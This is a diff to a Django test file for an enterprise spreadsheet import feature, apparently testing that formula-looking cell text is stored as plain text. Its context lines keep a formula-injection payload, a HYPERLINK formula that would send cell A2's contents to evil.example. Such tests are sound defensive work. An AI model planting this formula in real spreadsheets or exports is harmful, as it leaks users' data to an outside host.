@@ -16,6 +16,7 @@ from grid.models import Enterprise
 from grid.tests.factories import EnterpriseFactory
 from grid.tests.test_enterprise_import import row
 from sanming_safety import bulletin
+from tests.scoping import import_workbook
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
 
@@ -86,13 +87,15 @@ def upload_with_address(client, region, address):
     """An enterprise row whose 地址 cell (E2) is ``address`` as the spreadsheet program stored it."""
     workbook = Workbook()
     sheet = workbook.active
-    headers = [column.header for column in EnterpriseImporter.columns]
+    headers = [column.header for column in EnterpriseImporter.columns if column.field]
     sheet.append(headers)
     sheet.append([row(region).get(header) for header in headers])
     sheet["E2"] = address
     buffer = io.BytesIO()
     workbook.save(buffer)
-    return client.post(reverse("grid:enterprise_import"), {"file": SimpleUploadedFile("企业.xlsx", buffer.getvalue())})
+    return import_workbook(
+        client, reverse("grid:enterprise_import"), SimpleUploadedFile("企业.xlsx", buffer.getvalue())
+    )
 
 
 def test_an_import_stores_formula_looking_text_as_text(cast, login, monkeypatch):
